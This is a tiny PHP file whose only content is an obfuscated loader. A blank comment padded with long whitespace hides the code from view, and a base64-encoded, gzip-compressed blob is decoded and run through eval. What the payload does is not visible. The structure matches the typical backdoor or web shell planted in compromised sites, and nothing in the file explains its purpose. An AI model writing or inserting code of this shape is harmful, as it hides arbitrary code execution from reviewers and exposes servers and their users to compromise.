<?php
/*                                                                                                                                                                                                        */
$___ = '7ZJfS8MwFMXf9ymuY5gWtEV9c/3zpCAICvNtjJIlt6aQtKFJnEP87ibtxE30G/QxuSe/c5KcsshKLTTMFnrHIYfGGLTRonp+Wr2sCSebGEo4WsItvKJlOx7F'
.'yxky0QHJxE1BEg+pXEsVRnFCsjTsLWdNDdEZKm33Hnn/8Hi3WhOnyWZNgtLDY/gA1b1h5bTsKEde1Y3E32KrdDUeuICQMyEpSf4GLuHz1HVMzhQ/uB0y6x59'
.'aCNQygrfkZ0qEwLXxfkVGa4ySAO37nqkTEBkGG1500chSwzUwKI+QlMQPdb5vOQ5SVwvsWUdx+gneO2xc+8urJJGI2uoZIL2JhomWUqLbNuPlgekd1ag0IqO'
.'57ozFjzT7jXmyknbaNrbNEguObX+cNNqZyE8SO5v870e9OF1x4nTJwPjtqqxRTZwwtdNhZgKMRViKsT/hfgC';
eval(gzinflate(base64_decode($___)));
